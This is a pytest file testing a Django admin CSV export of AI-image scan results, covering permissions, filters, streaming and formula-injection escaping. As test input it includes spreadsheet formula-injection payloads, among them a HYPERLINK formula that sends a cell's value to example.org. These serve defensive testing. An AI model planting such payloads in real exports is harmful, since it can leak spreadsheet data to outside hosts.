import csv
from datetime import UTC, datetime, timedelta
from html import unescape
from io import StringIO
from typing import Any

import pytest
from django.contrib.admin import site
from django.contrib.auth.models import User
from django.contrib.contenttypes.models import ContentType
from django.db import connection
from django.test import AsyncRequestFactory, Client
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from django_copyleaks_image.admin import export
from django_copyleaks_image.models import ImageScan
from django_copyleaks_image.standings import Kind, Queue
from tests.admin.desk_requests import IMAGES, awaiting_second_look, decided
from tests.admin.scans_to_show import failed, measured_photo, pictured, scan_of
from tests.gallery.models import Photo
from tests.samples import photo

LIST = "/admin/copyleaks_image/imagescan/"
EXPORT = f"{LIST}export/"
PICTURES = f"{IMAGES}export/"

pytestmark = pytest.mark.django_db


def read(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(StringIO(text, newline="")))


def exported(client: Client, **parameters: Any) -> list[str]:
    return [row["scan_id"] for row in read(client.get(EXPORT, parameters))]


def test_export__has_a_row_for_every_scan(moderator: Client) -> None:
    created = datetime(2026, 7, 20, 20, 46, 58, 510474, tzinfo=UTC)
    scan = measured_photo("meadow.jpg", created_at=created, finished_at=created + timedelta(minutes=1))
    lost = failed(photo("lost"))
    response = moderator.get(EXPORT)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="imagescan-')
    assert "no-store" in response.headers["Cache-Control"]
    second, first = read(response)
    assert first | {"submitted_at": ""} == {
        "scan_id": scan.scan_id,
        "object": "gallery.Photo",
        "object_id": scan.object_id,
        "field_name": "image",
        "file_name": scan.file_name,
        "status": "completed",
        "verdict": "partly_ai",
        "ai_share": "0.37",
        "error_code": "",
        "created_at": "2026-07-20T20:46:58+00:00",
        "submitted_at": "",
        "finished_at": "2026-07-20T20:47:58+00:00",
        "model": "ai-image-1-ultra",
        "sandbox": "no",
        "credits": "1",
        "sha256": scan.sha256,
        "finding": "AI share of the area: 37 %",
    }
    assert second["scan_id"] == lost.scan_id
    assert (second["status"], second["error_code"], second["ai_share"]) == ("failed", "result_lost", "")
    assert second["finding"] == "The provider accepted the picture, but no result came."


def test_export__of_the_pictures_has_a_row_for_each_and_tells_how_it_stands(moderator: Client) -> None:
    image = pictured("meadow.jpg")
    decided(image, User.objects.create_user("bert"), Kind.CLEARED)
    waiting = pictured("lost.jpg", queue=Queue.REVIEW)
    response = moderator.get(PICTURES)
    assert response.headers["Content-Disposition"].startswith('attachment; filename="watchedimage-')
    second, first = read(response)
    assert (first["object_id"], first["standing"], first["queue"]) == (image.object_id, "cleared", "")
    assert first["scan_id"] == ImageScan.objects.get(image=image).scan_id
    assert (first["verdict"], first["ai_share"], first["credits"]) == ("partly_ai", "0.37", "1")
    assert (second["object_id"], second["standing"], second["queue"]) == (waiting.object_id, "flagged", "review")


def test_export__is_marked_as_utf_8(moderator: Client) -> None:
    assert b"".join(moderator.get(EXPORT).streaming_content).startswith(b"\xef\xbb\xbf")  # type: ignore[attr-defined]


def test_export__is_linked_with_the_filters_of_the_list(moderator: Client) -> None:
    found = measured_photo("found.jpg")
    measured_photo("sandbox.jpg", sandbox=True)
    failed(photo("lost"))
    assert len(exported(moderator)) == 3
    page = unescape(moderator.get(LIST, {"verdict__exact": "partly_ai", "sandbox__exact": "0"}).content.decode())
    assert f'href="{EXPORT}?sandbox__exact=0&verdict__exact=partly_ai"' in page
    assert exported(moderator, sandbox__exact="0", verdict__exact="partly_ai") == [found.scan_id]
    assert exported(moderator, q="photos/found") == [found.scan_id]
    assert exported(moderator, stuck="yes") == []


def test_export__of_a_broken_address_leads_back_to_the_list(moderator: Client) -> None:
    response = moderator.get(EXPORT, {"no_such_column": "1"}, follow=True)
    assert response.redirect_chain == [("../?e=1", 302)]
    assert response.wsgi_request.path == LIST


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\nx",
        " =1+1",
        "\u00a0=1+1",
        '"=1+1',
        "' =1+1",
        "\uff1d1+1",
        "\uff20SUM(A1)",
    ],
)
def test_export__lets_no_cell_be_taken_for_a_formula(text: str) -> None:
    assert export.harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "photos/a=b.jpg", "a-b", "1-2", "3@x", "Photo", "2026-07-20T20:46:58+00:00"])
def test_export__leaves_harmless_cells_as_they_are(text: str) -> None:
    assert export.harmless(text) == text


def test_export__neutralises_what_others_have_written(moderator: Client) -> None:
    scan_of(photo(), file_name='=HYPERLINK("http://example.org?"&A1,"click")', error_code="@now")
    (row,) = read(moderator.get(EXPORT))
    assert row["file_name"] == '\'=HYPERLINK("http://example.org?"&A1,"click")'
    assert row["error_code"] == row["finding"] == "'@now"


def test_export__keeps_what_looks_like_cells_inside_one(moderator: Client) -> None:
    name = 'a",=1+1;=2+2\r\n=3+3.jpg'
    scan_of(photo(), file_name=name)
    text = b"".join(moderator.get(EXPORT).streaming_content).decode()  # type: ignore[attr-defined]
    assert '"a"",=1+1;=2+2\r\n=3+3.jpg"' in text
    (row,) = csv.DictReader(StringIO(text, newline=""))
    assert row["file_name"] == name


def test_export__leaves_out_objects_that_the_user_may_not_view(staff: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    secret, public = measured_photo("secret.jpg"), measured_photo("public.jpg")
    assert exported(staff("view_imagescan")) == []
    may_view = "tests.gallery.admin.PhotoAdmin.has_view_permission"
    monkeypatch.setattr(may_view, lambda self, request, obj=None: obj is None or obj.title != "secret.jpg")
    client = staff("view_imagescan", "view_photo")
    assert exported(client) == [public.scan_id]
    Photo.objects.get(pk=secret.object_id).delete()
    assert exported(client) == [public.scan_id, secret.scan_id]


def test_export__is_closed_without_permission(staff: Any, client: Client) -> None:
    assert staff().get(EXPORT).status_code == 403
    assert staff("view_photo").get(EXPORT).status_code == 403
    assert client.get(EXPORT).status_code == 302
    assert staff("view_imagescan").post(EXPORT).status_code == 405


def test_export__does_not_tell_a_second_look_from_a_first_one(staff: Any) -> None:
    awaiting_second_look(pictured(), User.objects.create_user("first"), Kind.CONFIRMED)
    rights = ("view_watchedimage", "view_photo")
    (seen,) = read(staff(*rights, "decide_watchedimage").get(PICTURES))
    assert (seen["standing"], seen["queue"]) == ("flagged", "review")
    (seen,) = read(staff(*rights).get(PICTURES))
    assert (seen["standing"], seen["queue"]) == ("confirmed", "second_look")


def test_export__reads_chunk_by_chunk_while_it_is_sent(moderator: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "_CHUNK", 2)
    photos = [photo(f"{number}") for number in range(5)]
    response: Any = moderator.get(EXPORT)
    pieces = iter(response.streaming_content)
    with CaptureQueriesContext(connection) as captured:
        head = next(pieces)
        assert len(captured) == 0
        first = next(pieces)
        assert len(captured) == 2  # Two scans, and their objects.
        # What is deleted, or comes in, between two pieces neither repeats nor hides another row.
        ImageScan.objects.filter(object_id=photos[4].pk).delete()
        photo("new")
        rest = [next(pieces) for _ in range(2)]
    assert [piece.count(b"\n") for piece in (head, first, *rest)] == [1, 2, 2, 1]
    assert list(pieces) == []
    sent = (first + b"".join(rest)).decode()
    assert all(f'"{upload.pk}","image"' in sent for upload in photos)


def test_export__is_in_the_language_of_its_request(moderator: Client) -> None:
    measured_photo(ai_ratio=0.015)
    with translation.override("de"):
        response = moderator.get(EXPORT)
    (row,) = read(response)
    assert row["finding"].endswith("1,5 %")
    assert row["ai_share"] == "0.015"
    assert translation.get_language() == "en-us"


def test_export__knows_scans_of_a_model_that_is_gone(moderator: Client) -> None:
    failed(photo(), "model_removed", content_type=ContentType.objects.create(app_label="gallery", model="attic"))
    (row,) = read(moderator.get(EXPORT))
    assert row["object"] == "gallery.attic"


def test_export__is_sent_chunk_by_chunk_under_asgi_too(staff: Any) -> None:
    client = staff("view_imagescan", "view_photo")
    photo()
    scans: Any = site.get_model_admin(ImageScan)
    request = AsyncRequestFactory().get(EXPORT)
    request.user, request.session = User.objects.get(), client.session
    assert scans.export_view(request).is_async
